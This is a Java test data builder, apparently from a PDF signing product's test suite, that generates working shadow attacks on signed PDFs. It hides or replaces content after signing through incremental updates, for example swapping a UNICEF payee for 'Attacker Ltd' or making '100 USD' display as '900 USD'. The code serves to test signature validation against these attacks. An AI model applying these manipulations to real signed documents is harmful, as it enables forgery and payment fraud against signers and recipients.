package vn.signdesk.signing;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Objects;
import java.util.function.UnaryOperator;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObjectKey;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.form.PDFormXObject;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceDictionary;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAppearanceStream;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;

/**
 * Test data builder for the shadow attacks on signed PDFs (Mainka, Mladenov, Rohlmann, "Shadow
 * Attacks: Hiding and Replacing Content in Signed PDFs", NDSS 2021): a document prepared with its
 * shadow content before signing, the same document signed by the given signer, and the signed
 * document manipulated by an incremental update so that a viewer shows the shadow content.
 * {@code aShadowAttack(Variant.HIDE_FORM_VIA_FORM).signedBy(signer).build()}.
 *
 * <p>Every document has one A4 page that says what a signer would approve (a payment to UNICEF of
 * 100 USD, an approved application); the shadow content says otherwise (a payment to an attacker,
 * 900 USD, a refused application). Documents are written without compression, so that the updates
 * can address their objects by number, as an attacker's script does.
 */
final class ShadowAttacks {

    /** The known variants, named after the paper's classes. */
    enum Variant {
        /**
         * Hide: an overlay form XObject covers the shadow text; the update writes only a copy of the
         * metadata stream and a cross-reference section that points both the metadata's and the
         * overlay's object numbers at the copy, whose header names the metadata (the overlay is no
         * longer a form and is not drawn; PDFBox, searching the file for the overlay, sees no change).
         */
        HIDE_VIA_REFERENCED_OBJECT(false),
        /** The same, with the copy's header naming the overlay, so the metadata's entry is the one redirected. */
        HIDE_VIA_REFERENCED_OBJECT_RENUMBERED(true),
        /** Hide: a text field's opaque appearance covers a shadow field; the update empties the appearance stream in place. */
        HIDE_FORM_VIA_FORM(true),
        /**
         * Hide: a widget annotation outside the form, with an opaque appearance, covers shadow page text;
         * the update empties its appearance stream in place.
         */
        HIDE_TEXT_VIA_FORM(true),
        /** Replace: the update adds a free-text annotation over the amount, its appearance a form prepared in the document. */
        REPLACE_VIA_OVERLAY(true),
        /** Replace: the update redefines the font of the amount, so that its digits show other glyphs. */
        REPLACE_VIA_OVERWRITE(true),
        /** Hide and replace: the update points the page's /Contents at a shadow content stream of the document. */
        HIDE_AND_REPLACE_REFERENCES(true),
        /**
         * Hide and replace: the page's /Contents lists the honest and the shadow stream, the shadow one
         * marked free before signing; the update frees the honest one and takes the shadow one into use
         * at its signed bytes.
         */
        HIDE_AND_REPLACE_USAGE(false);

        /**
         * Whether poppler shows the manipulated document differently from the signed one. The others
         * aim at viewers that follow the cross-reference entries as written (Adobe Reader, in the
         * paper): poppler, like PDFBox, rebuilds the table when an entry does not fit and shows the
         * signed content.
         */
        final boolean shownByPoppler;

        Variant(boolean shownByPoppler) {
            this.shownByPoppler = shownByPoppler;
        }
    }

    /**
     * One attack's documents.
     *
     * @param variant which attack
     * @param prepared the document with its shadow content, before signing
     * @param signed the prepared document, signed
     * @param manipulated the signed document after the attacker's incremental update
     */
    record Attack(Variant variant, byte[] prepared, byte[] signed, byte[] manipulated) {}

    private static final String OBJECT_MARKER = "/ShadowRole";

    private final Variant variant;
    private UnaryOperator<byte[]> signer;

    private ShadowAttacks(Variant variant) {
        this.variant = variant;
    }

    static ShadowAttacks aShadowAttack(Variant variant) {
        return new ShadowAttacks(Objects.requireNonNull(variant));
    }

    /** Signs the prepared document, as the victim does (e.g. with SignDesk). */
    ShadowAttacks signedBy(UnaryOperator<byte[]> signer) {
        this.signer = Objects.requireNonNull(signer);
        return this;
    }

    Attack build() {
        Objects.requireNonNull(signer, "signedBy(...) first");
        try {
            byte[] prepared = prepared();
            byte[] signed = signer.apply(prepared);
            return new Attack(variant, prepared, signed, manipulated(signed));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private byte[] prepared() throws IOException {
        return switch (variant) {
            case HIDE_VIA_REFERENCED_OBJECT, HIDE_VIA_REFERENCED_OBJECT_RENUMBERED -> coveredByForm();
            case HIDE_FORM_VIA_FORM -> fieldOverField();
            case HIDE_TEXT_VIA_FORM -> widgetOverText();
            case REPLACE_VIA_OVERLAY -> withPreparedOverlay();
            case REPLACE_VIA_OVERWRITE -> page((doc, cs) -> text(cs, 72, 650, "Amount: 100 USD"));
            case HIDE_AND_REPLACE_REFERENCES -> withShadowContent();
            case HIDE_AND_REPLACE_USAGE -> withFreedShadowContent();
        };
    }

    private byte[] manipulated(byte[] signed) throws IOException {
        IncrementalUpdate update = IncrementalUpdate.on(signed);
        return switch (variant) {
            case HIDE_VIA_REFERENCED_OBJECT, HIDE_VIA_REFERENCED_OBJECT_RENUMBERED -> {
                long metadata = marked(signed, "metadata");
                long cover = marked(signed, "cover");
                long header = variant == Variant.HIDE_VIA_REFERENCED_OBJECT ? metadata : cover;
                long copy = update.append(header, IncrementalUpdate.stream(metadataEntries(), XMP));
                yield update.entry(metadata, copy).entry(cover, copy).build();
            }
            case HIDE_FORM_VIA_FORM, HIDE_TEXT_VIA_FORM ->
                update.object(marked(signed, "overlay-appearance"), IncrementalUpdate.stream(FORM_ENTRIES, ""))
                        .build();
            case REPLACE_VIA_OVERLAY -> addOverlayAnnotation(signed);
            case REPLACE_VIA_OVERWRITE ->
                update.object(
                                fontOf(signed),
                                "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding"
                                        + " << /Type /Encoding /BaseEncoding /WinAnsiEncoding /Differences [49 /nine] >> >>")
                        .build();
            case HIDE_AND_REPLACE_REFERENCES -> pointPageAt(signed, marked(signed, "shadow-content"));
            case HIDE_AND_REPLACE_USAGE -> {
                long shadow = marked(signed, "shadow-content");
                yield update.free(marked(signed, "honest-content"))
                        .entry(shadow, IncrementalUpdate.indexOf(signed, "\n" + shadow + " 0 obj", 0) + 1L)
                        .build();
            }
        };
    }

    // ---- prepared documents ------------------------------------------------------------------------

    private static final String XMP = "<?xpacket begin=\"\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>"
            + "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">"
            + "<rdf:Description rdf:about=\"\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\">"
            + "<dc:format>application/pdf</dc:format></rdf:Description></rdf:RDF></x:xmpmeta>"
            + "<?xpacket end=\"w\"?>";

    private static final String FORM_ENTRIES =
            "/Type /XObject /Subtype /Form /BBox [0 0 300 22] " + OBJECT_MARKER + " /overlay-appearance";

    private static String metadataEntries() {
        return "/Type /Metadata /Subtype /XML " + OBJECT_MARKER + " /metadata";
    }

    /** Shadow text under a form XObject that paints over it; the catalog has an XMP metadata stream. */
    private static byte[] coveredByForm() throws IOException {
        return document(
                (doc, cs) -> {
                    text(cs, 72, 700, "Pay to: Attacker Ltd, account 666 666 666");
                    cs.drawForm(cover(doc));
                },
                (doc, page) -> {
                    COSStream metadata = doc.getDocument().createCOSStream();
                    metadata.setItem(COSName.TYPE, COSName.METADATA);
                    metadata.setItem(COSName.SUBTYPE, COSName.getPDFName("XML"));
                    mark(metadata, "metadata");
                    try (OutputStream out = metadata.createRawOutputStream()) {
                        out.write(ascii(XMP));
                    }
                    doc.getDocumentCatalog().getCOSObject().setItem(COSName.METADATA, metadata);
                });
    }

    /** A form XObject that paints a white box and the honest payee over the line where the shadow one is. */
    private static PDFormXObject cover(PDDocument doc) throws IOException {
        PDFormXObject cover = new PDFormXObject(doc);
        cover.setBBox(new PDRectangle(60, 680, 480, 50));
        cover.setResources(helvetica());
        try (OutputStream out = cover.getContentStream().createOutputStream()) {
            out.write(ascii("1 g 60 680 480 50 re f BT /Helv 14 Tf 0 g 72 700 Td (Pay to: UNICEF, account 123 456 789)"
                    + " Tj ET"));
        }
        mark(cover.getCOSObject(), "cover");
        return cover;
    }

    /** A shadow text field ("Attacker Ltd") under a field whose opaque appearance says "UNICEF". */
    private static byte[] fieldOverField() throws IOException {
        return document((doc, cs) -> text(cs, 72, 700, "Recipient:"), (doc, page) -> {
            PDAcroForm form = new PDAcroForm(doc);
            doc.getDocumentCatalog().setAcroForm(form);
            form.setDefaultResources(helvetica());
            form.setDefaultAppearance("/Helv 12 Tf 0 g");
            addField(doc, form, page, "recipient_shadow", "Attacker Ltd", false);
            addField(doc, form, page, "recipient", "UNICEF", true);
        });
    }

    /** Shadow page text under a widget annotation outside the form whose opaque appearance says "UNICEF". */
    private static byte[] widgetOverText() throws IOException {
        return document(
                (doc, cs) -> {
                    text(cs, 72, 700, "Recipient:");
                    text(cs, 202, 700, "Attacker Ltd");
                },
                (doc, page) -> {
                    PDAnnotationWidget widget = new PDAnnotationWidget();
                    widget.setRectangle(new PDRectangle(200, 690, 300, 22));
                    widget.setPrinted(true);
                    widget.setPage(page);
                    widget.setAppearance(appearance(doc, "UNICEF", true));
                    page.getAnnotations().add(widget);
                });
    }

    /** The amount, and a form XObject painting another amount over it, which nothing uses yet. */
    private static byte[] withPreparedOverlay() throws IOException {
        byte[] honest = page((doc, cs) -> text(cs, 72, 650, "Amount: 100 USD"));
        IncrementalUpdate update = IncrementalUpdate.on(honest);
        return update.object(
                        update.nextNumber(),
                        IncrementalUpdate.stream(
                                "/Type /XObject /Subtype /Form /BBox [0 0 230 25] /Resources << /Font << /Helv"
                                        + " << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> "
                                        + OBJECT_MARKER + " /overlay-form",
                                "1 g 0 0 230 25 re f BT /Helv 14 Tf 0 g 2 8 Td (Amount: 900 USD) Tj ET"))
                .build();
    }

    /** The approved decision, and a shadow content stream refusing it, which nothing uses yet. */
    private static byte[] withShadowContent() throws IOException {
        byte[] honest = page((doc, cs) -> text(cs, 72, 700, "Decision: the application is approved."));
        IncrementalUpdate update = IncrementalUpdate.on(honest);
        return update.object(update.nextNumber(), shadowContent()).build();
    }

    /**
     * The page draws an honest and a shadow content stream; a second revision, still before signing,
     * marks the shadow one free, so that viewers reading the entries draw only the honest one.
     */
    private static byte[] withFreedShadowContent() throws IOException {
        byte[] both = document((doc, cs) -> {}, (doc, page) -> {
            page.setResources(helvetica());
            COSStream honest =
                    contentStream(doc, "BT /Helv 14 Tf 72 700 Td (Decision: the application is approved.) Tj ET");
            mark(honest, "honest-content");
            COSStream shadow =
                    contentStream(doc, "BT /Helv 14 Tf 72 680 Td (Decision: the application is refused.) Tj ET");
            mark(shadow, "shadow-content");
            COSArray contents = new COSArray();
            contents.add(honest);
            contents.add(shadow);
            page.getCOSObject().setItem(COSName.CONTENTS, contents);
        });
        return IncrementalUpdate.on(both).free(marked(both, "shadow-content")).build();
    }

    private static String shadowContent() {
        return IncrementalUpdate.stream(
                OBJECT_MARKER + " /shadow-content",
                "BT /F1 14 Tf 72 700 Td (Decision: the application is refused.) Tj ET");
    }

    // ---- manipulations written with PDFBox, as a PDF editor would ---------------------------------

    private static byte[] addOverlayAnnotation(byte[] signed) throws IOException {
        long form = marked(signed, "overlay-form");
        return edit(signed, (doc, page) -> {
            COSDictionary annotation = new COSDictionary();
            annotation.setItem(COSName.TYPE, COSName.ANNOT);
            annotation.setItem(COSName.SUBTYPE, COSName.getPDFName("FreeText"));
            annotation.setItem(COSName.RECT, new PDRectangle(70, 642, 230, 25).getCOSArray());
            annotation.setString(COSName.CONTENTS, "Amount: 900 USD");
            annotation.setString(COSName.DA, "/Helv 14 Tf 0 g");
            annotation.setInt(COSName.F, 4);
            COSDictionary ap = new COSDictionary();
            ap.setItem(COSName.N, doc.getDocument().getObjectFromPool(new COSObjectKey(form, 0)));
            annotation.setItem(COSName.AP, ap);
            COSArray annots = new COSArray();
            if (page.getCOSObject().getDictionaryObject(COSName.ANNOTS) instanceof COSArray signedAnnots) {
                // the signature's widget stays: only the overlay is added
                for (int i = 0; i < signedAnnots.size(); i++) {
                    annots.add(signedAnnots.get(i));
                }
            }
            annots.add(annotation);
            page.getCOSObject().setItem(COSName.ANNOTS, annots);
        });
    }

    private static byte[] pointPageAt(byte[] signed, long content) throws IOException {
        return edit(signed, (doc, page) -> page.getCOSObject()
                .setItem(COSName.CONTENTS, doc.getDocument().getObjectFromPool(new COSObjectKey(content, 0))));
    }

    /** A change to page 1 saved by PDFBox as an incremental update. */
    private static byte[] edit(byte[] signed, PageChange change) throws IOException {
        try (PDDocument doc = Loader.loadPDF(signed);
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = doc.getPage(0);
            change.apply(doc, page);
            page.getCOSObject().setNeedToBeUpdated(true);
            doc.saveIncremental(out);
            return out.toByteArray();
        }
    }

    // ---- helpers -----------------------------------------------------------------------------------

    /** What a page's content draws. */
    private interface Drawing {
        void draw(PDDocument doc, PDPageContentStream cs) throws IOException;
    }

    /** A change to a document's page 1. */
    private interface PageChange {
        void apply(PDDocument doc, PDPage page) throws IOException;
    }

    private static byte[] page(Drawing drawing) throws IOException {
        return document(drawing, (doc, page) -> {});
    }

    /** A one-page document: its content, then whatever else it needs. */
    private static byte[] document(Drawing drawing, PageChange extras) throws IOException {
        try (PDDocument doc = new PDDocument()) {
            PDPage page = addPage(doc);
            try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
                drawing.draw(doc, cs);
            }
            extras.apply(doc, page);
            return save(doc);
        }
    }

    private static PDPage addPage(PDDocument doc) {
        PDPage page = new PDPage(PDRectangle.A4);
        doc.addPage(page);
        return page;
    }

    private static void text(PDPageContentStream cs, float x, float y, String text) throws IOException {
        cs.beginText();
        cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 14);
        cs.newLineAtOffset(x, y);
        cs.showText(text);
        cs.endText();
    }

    private static PDResources helvetica() {
        PDResources resources = new PDResources();
        resources.put(COSName.HELV, new PDType1Font(Standard14Fonts.FontName.HELVETICA));
        return resources;
    }

    private static void addField(
            PDDocument doc, PDAcroForm form, PDPage page, String name, String value, boolean opaque)
            throws IOException {
        PDTextField field = new PDTextField(form);
        field.setPartialName(name);
        field.getCOSObject().setString(COSName.V, value);
        PDAnnotationWidget widget = field.getWidgets().get(0);
        widget.setRectangle(new PDRectangle(200, 690, 300, 22));
        widget.setPrinted(true);
        widget.setPage(page);
        widget.setAppearance(appearance(doc, value, opaque));
        page.getAnnotations().add(widget);
        form.getFields().add(field);
    }

    /** A normal appearance writing {@code value}, on a white ground when {@code opaque} (the overlay). */
    private static PDAppearanceDictionary appearance(PDDocument doc, String value, boolean opaque) throws IOException {
        PDAppearanceStream stream = new PDAppearanceStream(doc);
        stream.setBBox(new PDRectangle(0, 0, 300, 22));
        stream.setResources(helvetica());
        try (OutputStream out = stream.getContentStream().createOutputStream()) {
            out.write(
                    ascii((opaque ? "1 g 0 0 300 22 re f " : "") + "BT /Helv 14 Tf 0 g 2 6 Td (" + value + ") Tj ET"));
        }
        if (opaque) {
            mark(stream.getCOSObject(), "overlay-appearance");
        }
        PDAppearanceDictionary appearance = new PDAppearanceDictionary();
        appearance.setNormalAppearance(stream);
        return appearance;
    }

    private static COSStream contentStream(PDDocument doc, String content) throws IOException {
        COSStream stream = doc.getDocument().createCOSStream();
        try (OutputStream out = stream.createRawOutputStream()) {
            out.write(ascii(content));
        }
        return stream;
    }

    /** Names an object's role inside it, so that the manipulation finds its number in the signed file. */
    private static void mark(COSDictionary object, String role) {
        object.setName(COSName.getPDFName(OBJECT_MARKER.substring(1)), role);
    }

    /** The number of the object marked with {@code role}. */
    private static long marked(byte[] pdf, String role) {
        int at = IncrementalUpdate.indexOf(pdf, OBJECT_MARKER + " /" + role, 0);
        if (at < 0) {
            throw new IllegalStateException("no object is marked " + role);
        }
        int header = IncrementalUpdate.lastIndexOf(pdf, " 0 obj", at);
        int start = header;
        while (start > 0 && Character.isDigit(pdf[start - 1])) {
            start--;
        }
        return Long.parseLong(new String(pdf, start, header - start, StandardCharsets.US_ASCII));
    }

    /** The font object the page's text is drawn with (its only font resource). */
    private static long fontOf(byte[] signed) throws IOException {
        try (PDDocument doc = Loader.loadPDF(signed)) {
            PDResources resources = doc.getPage(0).getResources();
            COSName name = resources.getFontNames().iterator().next();
            COSDictionary fonts = resources.getCOSObject().getCOSDictionary(COSName.FONT);
            return fonts.getCOSObject(name).getKey().getNumber();
        }
    }

    private static byte[] save(PDDocument doc) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        doc.save(out, CompressParameters.NO_COMPRESSION);
        return out.toByteArray();
    }

    private static byte[] ascii(String s) {
        return s.getBytes(StandardCharsets.US_ASCII);
    }
}
